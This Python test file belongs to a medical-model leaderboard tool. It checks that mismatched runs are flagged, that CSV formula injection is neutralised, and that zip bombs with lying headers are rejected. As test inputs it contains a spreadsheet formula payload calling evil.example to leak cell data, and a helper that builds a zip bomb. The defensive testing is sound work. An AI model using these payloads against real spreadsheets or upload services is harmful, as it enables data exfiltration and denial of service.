"""The leaderboard compares like with like, writes a CSV no spreadsheet runs, and opens hostile zips
safely (issue 17, point 5); ``eval submit`` then ``leaderboard build results/*`` as the README says."""

from __future__ import annotations

import csv
import io
import json
import struct
import tracemalloc
import zipfile

import pytest
from typer.testing import CliRunner

from medix_r1.cli import app as cli
from medix_r1.evaluation.files import model_dirname
from medix_r1.evaluation.submission import submission_name
from medix_r1.leaderboard import LeaderboardError, build_leaderboard, verify_submission
from medix_r1.leaderboard.build import csv_safe

runner = CliRunner()


def _rows(task, scores, judge="j-14b"):
    return [
        {
            "id": f"{task}_{i}",
            "task": task,
            "question": "q",
            "answer": "a",
            "response": "r",
            "evaluation": {"score": s, "status": "ok", "grading": "binary", "rounds": [s, s, s]},
            "judge_model": judge,
        }
        for i, s in enumerate(scores)
    ]


def _run(root, model, rows, *, limit=None, torn=False):
    stem = model_dirname(model)
    d = root / stem
    d.mkdir(parents=True)
    text = "".join(json.dumps(r) + "\n" for r in rows)
    if torn:
        text += '{"id": "x_9", "task": "x", "evalu'  # a write cut short
    (d / f"{stem}_eval.jsonl").write_text(text)
    tasks = list(dict.fromkeys(r["task"] for r in rows))
    (d / "run.json").write_text(json.dumps({"model": model, "tasks": tasks, "limit": limit}))
    return d


def _csv(site):
    return list(csv.DictReader(io.StringIO((site / "leaderboard.csv").read_text())))


def test_runs_that_cannot_be_compared_are_flagged_on_the_page_and_in_the_csv(tmp_path):
    full = [1, 1, 0, 1, 1, 0, 1, 1]
    root = tmp_path / "results"
    _run(root, "org/Full-A", _rows("t_one", full) + _rows("t_two", full))
    _run(root, "org/Full-B", _rows("t_one", full[::-1]) + _rows("t_two", full))
    _run(root, "org/OneTask", _rows("t_one", full))  # 1 task of 2
    _run(root, "org/OtherJudge", _rows("t_one", full, "gpt-x") + _rows("t_two", full, "gpt-x"))
    _run(root, "org/Truncated", _rows("t_one", full[:4]) + _rows("t_two", full[:4]), limit=4, torn=True)
    site = tmp_path / "site"
    build_leaderboard(sorted(root.iterdir()), site)
    flags = {r["model"]: r["flags"] for r in _csv(site)}
    assert flags["org/Full-A"] == flags["org/Full-B"] == ""
    assert flags["org/OneTask"] == "other tasks: 1 vs 2 in most runs (missing t_two)"
    assert flags["org/OtherJudge"] == "other judge: gpt-x (most runs: j-14b)"
    assert flags["org/Truncated"] == (
        "partial: t_one 4 of 8, t_two 4 of 8 samples; run with --limit 4; judgement file cut short (1 torn line(s))"
    )
    page = (site / "index.html").read_text()
    assert "3 of 5 run(s) are not comparable with the rest" in page
    assert "&#9888; other judge: gpt-x (most runs: j-14b)" in page
    # a published task with fewer samples than its size is flagged even when it runs alone
    one = tmp_path / "solo"
    _run(one, "org/Solo", _rows("medqa", [1, 0, 1, 1]))
    (entry,) = build_leaderboard([one], tmp_path / "site2")
    assert entry.flags == ["partial: medqa 4 of 1273 samples"]


def test_the_cli_says_which_runs_are_flagged(tmp_path):
    root = tmp_path / "results"
    _run(root, "org/A", _rows("t_one", [1, 0]) + _rows("t_two", [1, 1]))
    _run(root, "org/B", _rows("t_one", [1, 0]) + _rows("t_two", [1, 1]))
    _run(root, "org/C", _rows("t_one", [1, 1]))
    r = runner.invoke(
        cli, ["leaderboard", "build", *map(str, sorted(root.iterdir())), "-o", str(tmp_path / "s")]
    )
    assert r.exit_code == 0, r.output
    assert "not comparable: other tasks: 1 vs 2 in most runs (missing t_two)" in r.output
    assert "warning: 1 of 3 run(s) are flagged as not comparable" in r.output


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    root = tmp_path / "results"
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    _run(root, evil, _rows("t_one", [1, 0]))
    _run(root, "@SUM(A1:A9)", _rows("t_one", [1, 1]))
    _run(root, "+cmd", _rows("t_one", [0, 0]))
    _run(root, "-2+3", _rows("t_one", [0, 1]))
    build_leaderboard(sorted(root.iterdir()), tmp_path / "site")
    models = [r["model"] for r in _csv(tmp_path / "site")]
    assert models == ["'@SUM(A1:A9)", "'-2+3", "'" + evil, "'+cmd"]
    raw = (tmp_path / "site" / "leaderboard.csv").read_text()
    for line in raw.splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "@")) and not (cell.startswith("-") and cell != "-")
    assert csv_safe("-0.1234") == "-0.1234"  # a negative kappa stays a number
    assert (tmp_path / "site" / "index.html").read_text().count("&quot;http://evil.example") == 2  # escaped


def test_a_folder_holding_another_models_run_is_refused(tmp_path):
    root = tmp_path / "results"
    d = _run(root, "orgA/mymodel-8B", _rows("t_one", [1, 0]))
    moved = d.rename(root / "Renamed")
    (moved / "mymodel_8B_eval.jsonl").rename(moved / "Renamed_eval.jsonl")
    with pytest.raises(
        LeaderboardError, match=r"holds the run of 'orgA/mymodel-8B', whose folder is 'mymodel_8B'"
    ):
        build_leaderboard([moved], tmp_path / "site")
    # two records of one folder that disagree (two models wrote into one folder)
    d2 = _run(tmp_path / "r2", "orgA/mymodel-8B", _rows("t_one", [1]))
    (d2 / "scores.json").write_text(json.dumps({"model": "orgB/mymodel-8B", "tasks": {}}))
    with pytest.raises(LeaderboardError, match="records two models"):
        build_leaderboard([d2], tmp_path / "site")
    # same folder name, different models, in two output folders: two entries
    _run(tmp_path / "x", "orgA/mymodel-8B", _rows("t_one", [1]))
    _run(tmp_path / "y", "orgB/mymodel-8B", _rows("t_one", [0]))
    entries = build_leaderboard([tmp_path / "x", tmp_path / "y"], tmp_path / "site")
    assert sorted(e.model for e in entries) == ["orgA/mymodel-8B", "orgB/mymodel-8B"]


def test_build_out_an_existing_file_is_an_error_not_a_traceback(tmp_path):
    _run(tmp_path / "results", "org/A", _rows("t_one", [1]))
    (tmp_path / "site.html").write_text("keep me")
    r = runner.invoke(
        cli, ["leaderboard", "build", str(tmp_path / "results"), "-o", str(tmp_path / "site.html")]
    )
    assert r.exit_code == 2 and "is a file: the leaderboard is a folder" in r.output
    assert (tmp_path / "site.html").read_text() == "keep me"


def _lying_zip(path, member, payload, claimed):
    """A zip whose local and central headers both claim ``claimed`` bytes for ``member``."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(member, payload)
    data = bytearray(path.read_bytes())
    name = member.encode()
    local = data.index(b"PK\x03\x04" + bytes(0))
    assert data[local + 30 : local + 30 + len(name)] == name
    struct.pack_into("<L", data, local + 22, claimed)
    central = data.index(b"PK\x01\x02")
    struct.pack_into("<L", data, central + 24, claimed)
    path.write_bytes(bytes(data))


def test_a_zip_bomb_whose_header_lies_stops_at_the_claimed_size_with_little_memory(tmp_path):
    stem = "Bomb"
    z = tmp_path / submission_name(stem)
    # 64 MiB of blank lines deflate to ~64 KiB; the headers claim 100 bytes (under every limit)
    _lying_zip(z, f"{stem}/{stem}_eval.jsonl", b"\n" * (64 << 20), claimed=100)
    with zipfile.ZipFile(z) as zf:  # what the headers say: small and harmless
        assert zf.getinfo(f"{stem}/{stem}_eval.jsonl").file_size == 100
    tracemalloc.start()
    report = verify_submission(z)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert not report.ok
    assert report.errors == [
        f"member '{stem}/{stem}_eval.jsonl' inflates past the 100 bytes its header claims "
        "(a lying header: a zip bomb?)"
    ]
    assert peak < 4 << 20  # read in chunks and stopped at once: never near the 64 MiB
    r = runner.invoke(cli, ["leaderboard", "verify", str(z)])
    assert r.exit_code == 1 and "REJECTED" in r.output and "lying header" in r.output
    r = runner.invoke(cli, ["leaderboard", "build", str(z), "-o", str(tmp_path / "site")])
    assert r.exit_code == 2 and "lying header" in r.output and "Traceback" not in r.output


def test_a_member_whose_header_claims_more_than_it_holds_is_refused(tmp_path):
    stem = "Short"
    z = tmp_path / submission_name(stem)
    row = json.dumps(_rows("medqa", [1])[0]) + "\n"
    _lying_zip(z, f"{stem}/{stem}_eval.jsonl", row.encode(), claimed=len(row) + 50)
    report = verify_submission(z)
    assert report.errors == [
        f"member '{stem}/{stem}_eval.jsonl' inflates to {len(row)} bytes but its header says "
        f"{len(row) + 50} (a lying header)"
    ]


def test_the_tour_eval_submit_then_leaderboard_build_results_star(tmp_path, monkeypatch):
    """README: eval run (fake backends, the offline mini-suite), eval submit, leaderboard build
    results/*, leaderboard verify without --tasks."""
    monkeypatch.chdir(tmp_path)
    r = runner.invoke(cli, ["data", "build-samples", "samples"])
    assert r.exit_code == 0, r.output
    for model in ("org/Tour-A", "org/Tour-B"):
        r = runner.invoke(
            cli,
            [
                "eval",
                "run",
                "--model",
                model,
                "--backend",
                "fake",
                "--judge-backend",
                "fake",
                "--tasks",
                "mini:samples",
                "--limit",
                "2",
                "--out",
                "results",
                "--no-report",
                "--base-url",
                "http://10.1.2.3:8000/v1",
            ],
        )
        assert r.exit_code == 0, r.output
    r = runner.invoke(cli, ["eval", "submit", "results/Tour_A"])
    assert r.exit_code == 0, r.output
    z = tmp_path / "submissions" / submission_name("Tour_A")
    assert z.exists() and not list((tmp_path / "results").glob("*.zip"))
    with zipfile.ZipFile(z) as zf:  # internal URLs stay home
        run = json.loads(zf.read("Tour_A/run.json"))
        assert "base_url" not in run and "judge_url" not in run and run["model"] == "org/Tour-A"
        assert b"10.1.2.3" not in b"".join(zf.read(n) for n in zf.namelist())
    r = runner.invoke(
        cli, ["leaderboard", "build", *map(str, sorted((tmp_path / "results").iterdir())), "-o", "site"]
    )
    assert r.exit_code == 0, r.output
    assert "org/Tour-A" in r.output and "org/Tour-B" in r.output
    r = runner.invoke(cli, ["leaderboard", "verify", str(z)])  # no --tasks: the suite is the submission's
    assert r.exit_code == 0, r.output
    assert "OK" in r.output and "suite from its run.json" in r.output
    # the zip among the inputs is one more input, not 100 lines of unknown tasks
    r = runner.invoke(cli, ["leaderboard", "build", "results/Tour_B", str(z), "-o", "site"])
    assert r.exit_code == 0, r.output
